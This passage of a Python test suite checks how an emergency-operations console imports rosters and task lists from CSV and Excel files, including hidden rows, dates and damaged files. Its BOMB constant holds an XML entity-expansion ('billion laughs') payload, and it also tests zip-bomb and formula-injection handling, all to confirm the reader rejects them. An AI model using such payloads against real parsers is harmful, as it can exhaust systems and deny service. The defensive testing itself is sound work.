    assert capsys.readouterr()[0].endswith("; cells merged over rows read in each: agency (rows 3 to 5), agency "
                                           "(rows 6 to 7))\n")


def test_rows_hidden_in_a_sheet_are_read_and_said_and_left_out_when_asked(tmp_path, capsys):
    """A roster filtered in Excel to the units available before it was
    saved: the rows filtered out are in the file, hidden. They are read
    (as Excel's own CSV export has them) and said; `shown()`, and the
    command line's --shown-only, take the rows a person sees."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    for row in (["callsign", "agency", "kind", "status"], ["E-1", "Fire", "Engine", "available"],
                ["E-2", "Fire", "Engine", "on scene"], ["E-3", "Fire", "Engine", "available"],
                ["E-4", "Fire", "Engine", "out of service"]):
        ws.append(row)
    ws.auto_filter.ref = "A1:D5"
    for hidden in (3, 5):
        ws.row_dimensions[hidden].hidden = True
    book = tmp_path / "roster.xlsx"
    wb.save(book)
    found = csv_rows.read("units", book)
    assert [r["callsign"] for r in found.rows] == ["E-1", "E-2", "E-3", "E-4"] and found.hidden == [1, 3]
    shown = found.shown()
    assert [r["callsign"] for r in shown.rows] == ["E-1", "E-3"] and shown.unshown == 2 and shown.hidden == []
    assert shown.lines == ["roster.xlsx, row 2", "roster.xlsx, row 4"]
    assert csv_rows.read("units", write(tmp_path / "r.csv", "callsign,agency,kind\nE-1,F,E\n")).hidden == []
    db = tmp_path / "ops.db"
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(book), "--shown-only"]) == 0
    assert capsys.readouterr()[0] == f"added 2 units from {book} (sheet 'Sheet'; 2 rows hidden in the sheet left out)\n"
    wb.active.row_dimensions[2].hidden = wb.active.row_dimensions[4].hidden = True
    wb.save(book)
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(book), "--shown-only"]) == 1
    assert capsys.readouterr()[1] == ("crisis-console: every row of roster.xlsx is hidden in its sheet: nothing to add "
                                      "(without --shown-only, they are all added)\n")
    with Store(db) as s:
        s.delete("units", s.resolve_id("units", "E-1"))
        s.delete("units", s.resolve_id("units", "E-3"))
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(book)]) == 0
    assert capsys.readouterr()[0] == (f"added 4 units from {book} (sheet 'Sheet'; 4 of them hidden in the sheet: "
                                      "--shown-only leaves them out)\n")
    # A column hidden in the sheet is read all the same, and said (one left out, as no field, is no matter).
    for row, cells in enumerate((["notes", "phone"], ["spare pump", "555-0100"]), 1):
        ws.cell(row, 5, cells[0])
        ws.cell(row, 6, cells[1])
    ws.column_dimensions["E"].hidden = ws.column_dimensions["F"].hidden = True
    for r in range(2, 6):
        ws.row_dimensions[r].hidden = False
        ws.cell(r, 1, f"X-{r}")
    wb.save(book)
    found = csv_rows.read("units", book, leave_others=True)
    assert found.hidden_columns == ["notes"] and found.others == ["phone"] and found.rows[0]["notes"] == "spare pump"
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(book), "--leave-out-others"]) == 0
    assert capsys.readouterr()[0].endswith("; columns hidden in the sheet, read all the same: notes)\n")


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&lol3;</t></is></c></row></sheetData></worksheet>"""


def test_files_that_are_not_a_workbook_it_can_read(store, tmp_path, monkeypatch):
    """Each said, in one line, with what to do where there is something;
    nothing added."""
    import zipfile

    good = workbook(tmp_path / "good.xlsx", {"Units": [["callsign", "agency", "kind"], ["E-1", "Fire", "Engine"]]})
    data = good.read_bytes()
    (tmp_path / "cut.xlsx").write_bytes(data[: len(data) // 2])
    (tmp_path / "old.xls").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 504)
    with zipfile.ZipFile(tmp_path / "sheet.ods", "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    with zipfile.ZipFile(tmp_path / "photos.zip", "w") as z:
        z.writestr("a.jpg", b"\xff\xd8")
    rezip(good, tmp_path / "garbled.xlsx", {"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row"})
    rezip(good, tmp_path / "bomb.xlsx", {"xl/worksheets/sheet1.xml": BOMB})
    rezip(good, tmp_path / "nobook.xlsx", {"xl/workbook.xml": None, "xl/stuff.xml": b"<a/>"})
    said = {
        "cut.xlsx": "^cut.xlsx is damaged: not readable as an Excel workbook",
        "old.xls": r'^old.xls is an Excel 97-2003 workbook \(.xls\) or one with a password: open it in Excel and '
                   r'save it as an Excel workbook \(.xlsx\) or as "CSV UTF-8"$',
        "sheet.ods": r'^sheet.ods is an OpenDocument spreadsheet: save it as an Excel workbook \(.xlsx\) or as '
                     r'"CSV UTF-8"$',
        "photos.zip": "^photos.zip is a zip archive, not an Excel workbook$",
        "nobook.xlsx": "^nobook.xlsx is a zip archive, not an Excel workbook$",
        "garbled.xlsx": r"^garbled.xlsx is damaged or not an Excel workbook: not readable \(",
        "bomb.xlsx": r"^bomb.xlsx is damaged or not an Excel workbook: not readable \(EntitiesForbidden",
    }
    before = store.info().changes
    for name, message in said.items():
        with pytest.raises(ValidationError, match=message):
            csv_rows.read("units", tmp_path / name)
    # A workbook whose parts unpack to far more than a roster's (a zip bomb).
    monkeypatch.setattr(csv_rows, "MAX_UNPACKED", len(data))
    with pytest.raises(ValidationError, match=r"^good.xlsx unpacks to more than 0 MiB: not a roster or a stock list"):
        csv_rows.read("units", good)
    # A cell beyond the header's columns (a note to the side) is named by its row, as in a CSV file.
    stray = workbook(tmp_path / "stray.xlsx", {"Units": [["callsign", "agency", "kind"], ["E-1", "Fire", "Engine"],
                                                         ["E-2", "Fire", "Engine", None, "call back"]]})
    monkeypatch.undo()
    with pytest.raises(ValidationError, match=r"^stray\.xlsx, row 3: more cells than the first row names "
                                              r"columns$"):
        csv_rows.read("units", stray)
    assert store.info().changes == before


@given(csv_files())
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_a_workbook_reads_as_the_csv_file_of_the_same_cells(tmp_path, file):
    """The same cells, as text, in a CSV file and in a workbook's sheet:
    the same rows, or the same reason, but for the word line or row."""
    header, rows = file
    if any("\ud800" in c for c in header + [c for r in rows for c in r]):
        return  # (a lone surrogate cannot be written into a workbook's XML)
    csv_path, book_path = tmp_path / "f.csv", tmp_path / "f.xlsx"
    with csv_path.open("w", newline="", encoding="utf-8") as f:
        csv_rows.csv.writer(f).writerows([header, *rows])
    workbook(book_path, {"Units": [header, *rows]})

    def place(text, name):
        text = text.replace(name, "F").replace(" line ", " row ").replace("first line", "first row")
        # A CSV file's cell empty below one filled may be of a merged one, which a workbook reads in each row.
        text = re.sub(r"; row \d+ above has one: a cell merged .*", "", text)
        # A cell's line breaks put a CSV file's rows on later lines than the sheet's.
        return re.sub(r" row \d+", " row N", text) if any("\n" in c for r in rows for c in r) else text

    def outcome(path):
        try:
            found = csv_rows.read("units", path)
        except ValidationError as exc:
            return place(str(exc), path.name)
        return found.rows, [place(w, path.name) for w in found.lines], found.left_out

    assert outcome(book_path) == outcome(csv_path)


@given(st.text(st.sampled_from("=+-@\t\r'a1 ,\""), max_size=8) | st.text(max_size=8))
def test_text_a_spreadsheet_would_take_for_a_formula_is_marked_and_read_back_as_it_was(text):
    cell = model.as_cell(text)
    assert cell[:1] not in model.FORMULA_START or cell == ""
    assert model.from_cell(cell) == text
    if text[:1] not in model.FORMULA_START and text.lstrip("'")[:1] not in model.FORMULA_START:
        assert cell == text  # (any other left as it is)


def test_due_dates_without_a_time_are_said_to_be_midnight(tmp_path, capsys):
    """A call sheet whose due column has dates alone ("28.11.2099"): each
    is midnight at the start of its day, so a task is overdue from its
    first minute; which rows were so is said (a time given, midnight
    itself included, is not), as the command line's `add` says of one
    value. A row hidden in the sheet and left out does not shift which
    rows are named."""
    import openpyxl

    sheet = write(tmp_path / "calls.csv", "title,due\nA,28.11.2099\nB,28.11.2099 18:00\nC,28.11.2099 00:00\n"
                                          "D,03/04/2099\nE,2099-12-01\n")
    found = csv_rows.read("tasks", sheet, dates="day-first")
    assert found.midnight == [(0, "due"), (3, "due"), (4, "due")]
    assert found.rows[0]["due"] == model.parse_typed_time("2099-11-28 00:00")
    assert found.rows[3]["due"] == model.parse_typed_time("2099-04-03 00:00")
    assert found.midnight_said() == ("due given as a date without a time in 3 lines (lines 2, 5, 6), read as "
                                     "midnight at the day's start")
    # A date read two ways, which waits for a later one to say the order.
    later = csv_rows.read("tasks", write(tmp_path / "l.csv", "title,due\nD,03/04/2099\nE,13/04/2099 10:00\n"))
    assert later.midnight == [(0, "due")] and later.dates == "day-first"
    assert later.rows[0]["due"] == model.parse_typed_time("2099-04-03 00:00")
    plain_times = csv_rows.read("tasks", write(tmp_path / "t.csv", "title,due\nA,18:00\nB,+2h\nC,now\n"))
    assert plain_times.midnight == [] and plain_times.midnight_said() is None
    # Many rows: the first few named, and how many more.
    many = csv_rows.read("tasks", write(tmp_path / "m.csv", "title,due\n" + "".join(
        f"T{i},2099-11-28\n" for i in range(8))))
    assert many.midnight_said() == ("due given as a date without a time in 8 lines (lines 2, 3, 4, 5 and 4 "
                                    "more), read as midnight at the day's start")
    # A workbook's date cell (a date at midnight, as Excel keeps a date typed alone), a row hidden before.
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in (["title", "due"], ["A", datetime(2099, 11, 28, 18, 0)], ["B", datetime(2099, 11, 28)],
                ["C", datetime(2099, 11, 29)]):
        ws.append(row)
    ws.row_dimensions[2].hidden = True
    book = tmp_path / "calls.xlsx"
    wb.save(book)
    found = csv_rows.read("tasks", book)
    assert found.midnight == [(1, "due"), (2, "due")] and found.hidden == [0]
    assert found.rows[1]["due"] == model.parse_typed_time("2099-11-28 00:00")
    shown = found.shown()
    assert shown.midnight == [(0, "due"), (1, "due")]
    assert shown.midnight_said() == ("due given as a date without a time in 2 rows (rows 3, 4), read as midnight "
                                     "at the day's start")
    db = tmp_path / "ops.db"
    assert cli.main(["add", "--db", str(db), "tasks", "--csv", str(book), "--shown-only"]) == 0
    assert capsys.readouterr()[0] == (f"added 2 tasks from {book} (sheet 'Sheet'; 1 row hidden in the sheet left "
                                      "out; due given as a date without a time in 2 rows (rows 3, 4), read as "
                                      "midnight at the day's start: add a time in the file for another)\n")
